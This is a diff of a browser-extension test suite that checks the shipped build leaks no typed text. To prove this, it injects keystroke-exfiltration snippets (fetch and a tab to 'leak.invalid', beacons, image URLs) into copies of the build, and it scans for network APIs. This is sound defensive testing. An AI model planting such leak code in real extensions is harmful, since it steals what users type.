@@ -1,118 +1,95 @@
-/** What is typed leaves the machine in no way of ours. A leaking build is put through the same watchers, to show that they would see it. */
-import { appendFile, cp, mkdtemp, readFile, rm } from "node:fs/promises";
-import { tmpdir } from "node:os";
+/**
+ * What is typed leaves the machine in no way of ours: on every surface and page of ours, in both browsers (a few of them here, all of them in
+ * `npm run test:long`). Leaking builds are put through the same watchers, to show that they would see it.
+ */
+import { appendFile, cp, readFile, writeFile } from "node:fs/promises";
 import { join } from "node:path";
-import { afterAll, expect, test } from "vitest";
-import { clickOn, launchChromium, typeInto, until, untilEnabled } from "../setup/browsers.ts";
+import { afterAll, describe, expect, test } from "vitest";
 import { builtExtension } from "../setup/builds.ts";
-import { startProxy } from "../setup/proxy.ts";
-import { hosts, startServer } from "../setup/serve.ts";
-import { BOXES as KINDS, FACEBOOK, LINKEDIN_C, VARIANTS, X_INLINE, type Box } from "./boxes.ts";
-import { FURTHER } from "./further-boxes.ts";
-import { pointAtMark, press, reportOn, untilCard, untilMarked, untilPaused } from "./ours.ts";
+import { temporaryFolder } from "../setup/profile.ts";
+import { ALLOWED } from "./asked-boxes.ts";
+import { ALL, FACEBOOK, LINKEDIN_C, MESSAGES, X_INLINE, type Box } from "./boxes.ts";
+import { MARKER, OUR_PAGES, tourOf, tourOfOurs, withDraft } from "./tour.ts";
+import { watchChromium, watchFirefox, type Seen, type Watched } from "./watchers.ts";
 
-const MARKER = "Quillfeather";
-const RISKY = `My patient Zebediah ${MARKER} coded yesterday in room 12.`;
-const NETWORKS = /^(x|twitter)\.com$|^(www|business)\.(facebook|linkedin)\.com$/;
-/** The browser's own errands, which no extension causes; they carry nothing of a page. */
-const BROWSERS_OWN = /(^|\.)(google|googleapis|gvt1)\.com$/;
+const LONG = process.env["LONG"] !== undefined;
+type Browser = "chromium" | "firefox";
 
-const LEAKS: readonly (readonly [string, string])[] = [
-  ["fetch to a strange host", `fetch("https://leak.invalid/?q=" + encodeURIComponent(text), { mode: "no-cors" }).catch(() => {})`],
-  ["a beacon to the page's own host", `navigator.sendBeacon(location.origin + "/beacon", text)`],
-  ["an image address", `new Image().src = location.origin + "/i.png?q=" + encodeURIComponent(text)`],
-];
+const copies: { remove(): Promise<void> }[] = [];
+afterAll(() => Promise.all(copies.map((copy) => copy.remove())));
 
-const folders: string[] = [];
-afterAll(() => Promise.all(folders.map((folder) => rm(folder, { recursive: true, force: true }))));
-
-/** A copy of the build that ships, with a leak added to its content script. */
-async function leaking(leak: string): Promise<string> {
-  const folder = await mkdtemp(join(tmpdir(), "leaking-"));
-  folders.push(folder);
-  await cp(builtExtension("chromium"), folder, { recursive: true });
-  const manifest = JSON.parse(await readFile(join(folder, "manifest.json"), "utf8")) as { content_scripts: { js: string[] }[] };
-  const script = manifest.content_scripts[0]?.js[0] ?? "";
-  await appendFile(join(folder, script), `\n;addEventListener("input", (e) => { const text = e.composedPath()[0].textContent ?? ""; if (text.includes("${MARKER}")) { ${leak}; } }, true);`);
-  return folder;
+interface Manifest {
+  readonly background: { readonly scripts?: readonly string[]; readonly service_worker?: string };
+  readonly content_scripts: readonly { readonly js: readonly string[]; readonly matches: readonly string[] }[];
+  readonly host_permissions: readonly string[];
 }
 
-/** Every surface of the installation that marks and needs no setting in the long run, some kinds of editor otherwise. */
-const BOXES: readonly Box[] = process.env["LONG"] === undefined ? [X_INLINE, FACEBOOK, LINKEDIN_C] : [...KINDS, ...VARIANTS, ...FURTHER].filter((box) => box.field !== true && box.surface !== "dm" && box.button !== "" && box.start === undefined);
+/** A copy of the build that ships, with something changed in it. */
+async function copyOf(browser: Browser, change: (folder: string, manifest: Manifest) => Promise<void>): Promise<string> {
+  const copy = await temporaryFolder("changed");
+  copies.push(copy);
+  await cp(builtExtension(browser), copy.path, { recursive: true });
+  await change(copy.path, JSON.parse(await readFile(join(copy.path, "manifest.json"), "utf8")) as Manifest);
+  return copy.path;
+}
 
-/**
- * Drives the extension through all it does with a marked text, and returns what was seen on the way out by each of the watchers: the driver's requests,
- * the protocol's, a proxy that stands where every strange host would be, the browser's own log of its network, and the networks' server.
- */
-async function watch(extensionDir: string) {
-  const server = await startServer();
-  const proxy = await startProxy();
-  const folder = await mkdtemp(join(tmpdir(), "net-log-"));
-  folders.push(folder);
-  const log = join(folder, "log.json");
-  const args = [`--proxy-server=http://127.0.0.1:${proxy.port}`, `--proxy-bypass-list=${hosts.join(";")}`, "--disable-quic", `--log-net-log=${log}`];
-  const chromium = await launchChromium({ port: server.port, extensionDir, args });
-  const seen: { url: string; body: string }[] = [];
-  try {
-    chromium.context.on("request", (request) => seen.push({ url: request.url(), body: request.postData() ?? "" }));
-    for (const box of BOXES) {
-      const page = await chromium.open(box.url);
-      const cdp = await chromium.context.newCDPSession(page);
-      cdp.on("Network.requestWillBeSent", ({ request }) => seen.push({ url: request.url, body: request.postData ?? "" }));
-      await cdp.send("Network.enable");
-      const rig = { page, world: await chromium.world(page) };
-      for (const opener of box.opener ?? []) await clickOn(page, opener);
-      const words = reportOn(box, RISKY).findings.map((f) => f.text);
-      await typeInto(page, box.editor, RISKY);
-      await untilMarked(rig, words);
-      await pointAtMark(rig);
-      await untilCard(rig);
-      await press(rig, "close");
-      await untilEnabled(page, box.button, true);
-      await clickOn(page, box.button);
-      await untilPaused(rig);
-      await press(rig, "edit");
+/** Firefox's copy begins with the permissions that its writer would give in the popup, which other tests do. */
+const allowed = (): Promise<string> => copyOf("firefox", (folder, manifest) => writeFile(join(folder, "manifest.json"), JSON.stringify({
+  ...manifest, host_permissions: [...manifest.host_permissions, ...ALLOWED],
+  content_scripts: manifest.content_scripts.map((script) => ({ ...script, matches: [...script.matches, ...ALLOWED] })),
+})));
+
+/** The content script's own leaks see the text as it is typed; the background's is told of it. */
+const IN_PAGE = (leak: string) => `\n;addEventListener("input", (e) => { const text = e.composedPath()[0].textContent ?? ""; if (text.includes("${MARKER}")) { ${leak}; } }, true);`;
+const API = "(globalThis.browser ?? globalThis.chrome)";
+const LEAKS: readonly (readonly [name: string, browsers: readonly Browser[], leak: string, isStrange: boolean])[] = [
+  ["fetch to a strange host", ["chromium"], `fetch("https://leak.invalid/?q=" + encodeURIComponent(text), { mode: "no-cors" }).catch(() => {})`, true],
+  ["a tab at a strange host", ["firefox"], `${API}.runtime.sendMessage({ leak: text })`, true],
+  ["a beacon to the page's own host", ["chromium", "firefox"], `navigator.sendBeacon(location.origin + "/beacon", text)`, false],
+  ["an image address", ["chromium", "firefox"], `new Image().src = location.origin + "/i.png?q=" + encodeURIComponent(text)`, false],
+];
+const IN_BACKGROUND = `\n;${API}.runtime.onMessage.addListener((m) => { if (m?.leak) void ${API}.tabs.create({ url: "https://leak.invalid/?q=" + encodeURIComponent(m.leak) }); });`;
+
+const leaking = (browser: Browser, leak: string): Promise<string> => copyOf(browser, async (folder, { background, content_scripts: [script] }) => {
+  await appendFile(join(folder, script?.js[0] ?? ""), IN_PAGE(leak));
+  await appendFile(join(folder, background.scripts?.[0] ?? background.service_worker ?? ""), IN_BACKGROUND);
+});
+
+/** Messages are read where that is switched on, and so they are here. */
+const READS = { settings: { messagesOn: [...new Set([...MESSAGES.map(({ network }) => network), "instagram", "bluesky", "reddit", "mastodon"])] } };
+const inFirefox = (box: Box): boolean => box.frame === undefined;
+const boxesFor = (browser: Browser): readonly Box[] => (LONG ? ALL : browser === "chromium" ? [X_INLINE, FACEBOOK, LINKEDIN_C] : [X_INLINE, FACEBOOK]).filter((box) => browser === "chromium" || inFirefox(box));
+
+const whole = (browser: Browser) => async ({ open, ours, keep }: Watched): Promise<void> => {
+  await keep(READS);
+  for (const box of boxesFor(browser)) await tourOf(() => open(box), box);
+  await withDraft(() => open(X_INLINE), X_INLINE, async () => {
+    for (const name of OUR_PAGES) {
+      const page = await ours(name);
+      await tourOfOurs(page);
       await page.close();
     }
-    const page = await chromium.open(`chrome-extension://${await chromium.extensionId()}/src/pages/practice/index.html`);
-    await typeInto(page, "textarea", RISKY);
-    await until(() => page.locator("main").innerText(), (text) => text.includes("Pause") || text.includes("Stop"), "the report on the practice page");
-    for (const request of server.requests) seen.push({ url: `https://${request.host}${request.path}`, body: request.body });
-  } finally {
-    await chromium.close();
-    await server.close();
-    await proxy.close();
-  }
-  const logged = [...(await readFile(log, "utf8")).matchAll(/"url":"(https?:[^"]{1,4000})"/g)].map(([, url = ""]) => url);
-  for (const url of [...proxy.asked, ...logged]) if (URL.canParse(url)) seen.push({ url, body: "" });
-  const away = seen.filter(({ url }) => /^https?:/.test(url));
-  return {
-    all: away.length,
-    logged: logged.length,
-    asked: proxy.asked.map((url) => new URL(url).hostname),
-    strange: away.map(({ url }) => new URL(url).hostname).filter((host) => !NETWORKS.test(host) && !BROWSERS_OWN.test(host)),
-    marked: away.filter(({ url, body }) => url.includes(MARKER) || body.includes(MARKER)),
-  };
-}
+  });
+};
+const short = async ({ open }: Watched): Promise<void> => withDraft(() => open(X_INLINE), X_INLINE, () => Promise.resolve());
 
-test("the build that ships: no strange host, and the text in no request", async () => {
-  const { all, logged, asked, strange, marked } = await watch(builtExtension("chromium"));
-  expect(all).toBeGreaterThan(3);
-  expect(logged).toBeGreaterThan(3);
-  expect(asked.filter((host) => !BROWSERS_OWN.test(host))).toEqual([]);
-  expect(strange).toEqual([]);
-  expect(marked).toEqual([]);
-});
+const watch: Readonly<Record<Browser, (dir: string, tour: (watched: Watched) => Promise<void>, allowed?: boolean) => Promise<Seen>>> = { chromium: watchChromium, firefox: watchFirefox };
+const sum = (of: Readonly<Record<string, number>>): number => Object.values(of).reduce((total, count) => total + count, 0);
 
-test.each(LEAKS)("the same watchers see %s", async (name, leak) => {
-  const { strange, asked, marked } = await watch(await leaking(leak));
-  expect(marked.length).toBeGreaterThan(0);
-  if (name.includes("strange")) for (const hostsSeen of [strange, asked]) expect(hostsSeen).toContain("leak.invalid");
-});
+describe.each(["chromium", "firefox"] as const)("%s", (browser) => {
+  test("the build that ships: no strange host, and the text in no request", async () => {
+    const folder = LONG && browser === "firefox" ? await allowed() : builtExtension(browser);
+    const { counts, strange, marked } = await watch[browser](folder, whole(browser), LONG);
+    // The proxy sees what goes elsewhere: nothing, or an errand of the browser's.
+    for (const [watcher, count] of Object.entries(counts)) if (watcher !== "proxy") expect(count, watcher).toBeGreaterThan(3);
+    expect(Object.values(strange).flat()).toEqual([]);
+    expect(sum(marked)).toBe(0);
+  });
 
-test("nothing that ships can speak to a network", async () => {
-  for (const browser of ["chromium", "firefox"] as const) {
-    const script = await readFile(join(builtExtension(browser), "src/guard/content.js"), "utf8");
-    expect(script.match(/\bfetch\(|XMLHttpRequest|sendBeacon|WebSocket|EventSource|\beval\(|new Function|importScripts|import\(/g) ?? []).toEqual([]);
-  }
+  test.each(LEAKS.filter(([, browsers]) => browsers.includes(browser)))("the same watchers see %s", async (_name, _browsers, leak, isStrange) => {
+    const { strange, marked } = await watch[browser](await leaking(browser, leak), short);
+    expect(sum(marked)).toBeGreaterThan(0);
+    // A strange host is asked for by way of the proxy, and stands in the browser's own log.
+    if (isStrange) for (const watcher of ["proxy", "log"]) expect(strange[watcher], watcher).toContain("leak.invalid");
+  });
 });
